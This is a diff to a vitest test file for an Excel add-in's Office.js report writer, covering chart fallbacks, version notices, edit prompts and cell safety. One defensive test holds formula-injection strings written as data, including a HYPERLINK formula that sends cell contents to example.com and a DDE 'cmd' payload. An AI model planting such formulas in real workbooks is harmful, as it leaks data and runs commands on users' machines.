@@ -2,11 +2,11 @@
 import { describe, expect, it } from "vitest";
 import { createWorkbook, readCell, readValues, syncSummary, tableAddress, type WorkbookState } from "../../fakes/excel";
 import { cellKey, setCell } from "../../fakes/excel/state";
-import type { SheetLayout } from "../../../src/report/layout";
+import { tableSheet, type SheetLayout } from "../../../src/report/layout";
 import { REGISTRY_SHEET } from "../../../src/report/meta";
 import { buildForecastHistorySheet, FORECAST_HISTORY_SHEET } from "../../../src/report/forecastHistory";
 import { PROGNOSIS_SHEET, PROGNOSIS_TABLE } from "../../../src/report/prognosisSheet";
-import { NO_VALIDATION_NOTICE, OfficeWriter } from "../../../src/workbook/office/writer";
+import { NO_INDENT_NOTICE, NO_OUTLINE_NOTICE, NO_VALIDATION_NOTICE, NO_WATERFALL_NOTICE, OfficeWriter, type EditedChoice } from "../../../src/workbook/office/writer";
 import { WriteRefused } from "../../../src/workbook/writeChecks";
 import { withExcel } from "./harness";
 import { COERCIBLE_TEXT, coercibleText, prognosisReport, template } from "./sampleReport";
@@ -101,12 +101,15 @@ describe("charts", () => {
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!Q7`)?.formula).toBe(`I${base.tables[0]!.headerRow + 2 + subtotals[0]!.i}`);
   });
 
-  it("uses the Waterfall type where ExcelApi 1.9 exists, and stacked columns with an invisible base otherwise", async () => {
+  it("uses the Waterfall type where ExcelApi 1.9 exists, and stacked columns with an invisible base otherwise, and says so", async () => {
     const modern = createWorkbook();
-    await write(modern, [withChart("waterfall")]);
+    await expect(write(modern, [withChart("waterfall")])).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
     expect(sheet(modern, PROGNOSIS_SHEET).charts[0]!.type).toBe("Waterfall");
     const old = createWorkbook({ Blad1: [] }, { excelApiMinor: 8 });
-    await write(old, [withChart("waterfall")]);
+    // ExcelApi 1.8: no Waterfall type, no row grouping (1.10), no indent (1.9); each fallback is told in Swedish.
+    await expect(write(old, [withChart("waterfall")])).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [], notices: [NO_WATERFALL_NOTICE, NO_OUTLINE_NOTICE, NO_INDENT_NOTICE] });
+    expect(NO_WATERFALL_NOTICE).toMatch(/^Din Excel-version saknar vattenfallsdiagram \(ExcelApi 1\.9\): diagrammet ritades i stället som staplade kolumner/);
+    expect(sheet(old, PROGNOSIS_SHEET).outline.size).toBe(0);
     const chart = sheet(old, PROGNOSIS_SHEET).charts[0]!;
     expect(chart).toMatchObject({ type: "ColumnStacked", noFillSeries: [0] });
     expect(readValues(old, `'${PROGNOSIS_SHEET}'!Q6:S6`)).toEqual([["Bas", "Ökning", "Minskning"]]);
@@ -129,6 +132,27 @@ describe("round trips and payload", () => {
       expect(first.maxRequestBytes).toBeLessThan(5 * 1024 * 1024);
       expect(again.maxResponseBytes).toBeLessThan(5 * 1024 * 1024);
       expect(readValues(state, `'${PROGNOSIS_SHEET}'!A1:A1`)).toEqual([[layout.title]]);
+    });
+  }
+
+  for (const [rows, bound] of [
+    [1_000, 4],
+    [10_000, 5],
+  ] as const) {
+    it(`rewrites a ${rows}-row report as the task pane does (check for edits, then write) in at most ${bound} round trips`, async () => {
+      const layout = prognosisReport(rows);
+      const state = createWorkbook({ Data: [["indata"]] });
+      await write(state, [layout]);
+      state.syncs = [];
+      const asked: string[][] = [];
+      const ask = async (sheets: readonly string[]): Promise<EditedChoice> => (asked.push([...sheets]), "cancel");
+      const report = await withExcel(state, () => new OfficeWriter({ now: NOW }).writeSheets([layout], { onEdited: ask, merged: [] }));
+      // Look at the workbook, read our old sheet back (one block, two for 10,000 rows), build, swap: the check for
+      // edits is that same read, and nothing was edited, so nobody was asked.
+      console.log(`${rows} rows, check + write: ${state.syncs.length} syncs`);
+      expect(report).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
+      expect(asked).toEqual([]);
+      expect(state.syncs.length).toBeLessThanOrEqual(bound);
     });
   }
 
@@ -204,6 +228,38 @@ describe("the workbook is safe", () => {
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
   });
 
+  it("asks its question between reading the sheets and writing, and the answer decides", async () => {
+    const state = createWorkbook({ Blad1: [] });
+    await write(state, [layout, template()]);
+    setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "min anteckning");
+    const asked: string[][] = [];
+    const writeAsking = (answer: EditedChoice, meanwhile = () => {}) =>
+      withExcel(state, () =>
+        new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: async (sheets) => (asked.push([...sheets]), meanwhile(), answer), merged: [] }),
+      );
+
+    state.syncs = [];
+    await expect(writeAsking("cancel")).resolves.toEqual({ written: [], keptEdited: [], cancelled: true });
+    expect(asked).toEqual([[PROGNOSIS_SHEET]]);
+    expect(state.syncs).toHaveLength(2); // the look and the read: nothing written
+    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("min anteckning");
+
+    // The user edits the template while the question is open: "keep" keeps that edit too.
+    const editTemplate = () => setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan");
+    await expect(writeAsking("keep", editTemplate)).resolves.toEqual({ written: [], keptEdited: [PROGNOSIS_SHEET, "Mall prognos"] });
+    expect(readCell(state, "'Mall prognos'!A21")?.value).toBe("ändrad under frågan");
+
+    // A failed build after "replace" leaves the edited sheets as they were.
+    state.failOn = (op) => op.p === "add" && op.o.endsWith(".tables");
+    await expect(writeAsking("replace")).rejects.toMatchObject({ code: "GeneralException" });
+    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("min anteckning");
+    state.failOn = undefined;
+
+    await expect(writeAsking("replace")).resolves.toEqual({ written: [PROGNOSIS_SHEET, "Mall prognos"], keptEdited: [] });
+    expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
+    expect(asked).toEqual([[PROGNOSIS_SHEET], [PROGNOSIS_SHEET], [PROGNOSIS_SHEET, "Mall prognos"], [PROGNOSIS_SHEET, "Mall prognos"]]);
+  });
+
   it("leaves the old output intact when the build fails half-way", async () => {
     const state = createWorkbook({ Blad1: [] });
     await write(state, [layout]);
@@ -230,6 +286,29 @@ describe("the workbook is safe", () => {
     expect(at("A12")).toMatchObject({ value: "-3 236 tkr sedan april", quotePrefix: true });
     const s = sheet(state, "Mall prognos");
     expect([...s.cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
+  });
+
+  it("writes the exceljs writer's formula attacks, a carriage return among them, as the text they are", async () => {
+    // The same set as the exceljs writer's test (test/workbook/exceljs/writer.test.ts, issue 5).
+    const attacks = ['=HYPERLINK("http://example.com/?q="&A1,"Klicka")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];
+    const layout = tableSheet({
+      name: "Angrepp",
+      title: "Kommentarer",
+      meta: [],
+      table: "Budgetkoll_Angrepp",
+      columns: [{ id: "comment", header: "Kommentar", type: "text" }],
+      rows: attacks.map((a) => ({ kind: "data" as const, level: 0, cells: [{ value: a }] })),
+      notes: [],
+      frozenColumns: 0,
+    });
+    const state = createWorkbook({ Blad1: [] });
+    await write(state, [layout]);
+    const first = layout.tables[0]!.headerRow + 2;
+    const cells = attacks.map((_, i) => readCell(state, `Angrepp!A${first + i}`));
+    // Office.js has no XML to pass: the carriage return stays one.
+    expect(cells.map((c) => c?.value)).toEqual(attacks);
+    expect(cells.every((c) => c?.quotePrefix === true)).toBe(true);
+    expect([...sheet(state, "Angrepp").cells.values()].filter((c) => c.formula !== undefined)).toEqual([]);
   });
 
   it("keeps text Excel would parse (a boolean, a date, a number) as the text it is, in every kind of cell", async () => {
@@ -284,11 +363,12 @@ describe("the workbook is safe", () => {
     // Everything else of the template is there: protection, unlocked input cells.
     expect(s.protection).toEqual({ allowFormatColumns: true, allowSort: false, allowAutoFilter: true });
     expect(s.cells.get(cellKey(5, 2))?.format).toMatchObject({ locked: false, fill: "#FFF2CC" });
-    // The same when the support is injected; a report without validation gets no notice.
+    // The same when the support is injected; a report without validation gets no notice of it, but of the row
+    // grouping (ExcelApi 1.10) and the indent (1.9) this Excel lacks as well.
     const injected = createWorkbook({ Blad1: [] });
     const noValidation = new OfficeWriter({ now: NOW, supports: (v) => v !== "1.8" && Number(v.split(".")[1]) < 8 });
     await expect(write(injected, [template()], "fail", noValidation)).resolves.toMatchObject({ notices: [NO_VALIDATION_NOTICE] });
     expect(sheet(injected, "Mall prognos").validations).toEqual([]);
-    await expect(write(injected, [prognosisReport(10)], "fail", noValidation)).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
+    await expect(write(injected, [prognosisReport(10)], "fail", noValidation)).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [], notices: [NO_OUTLINE_NOTICE, NO_INDENT_NOTICE] });
   });
 });
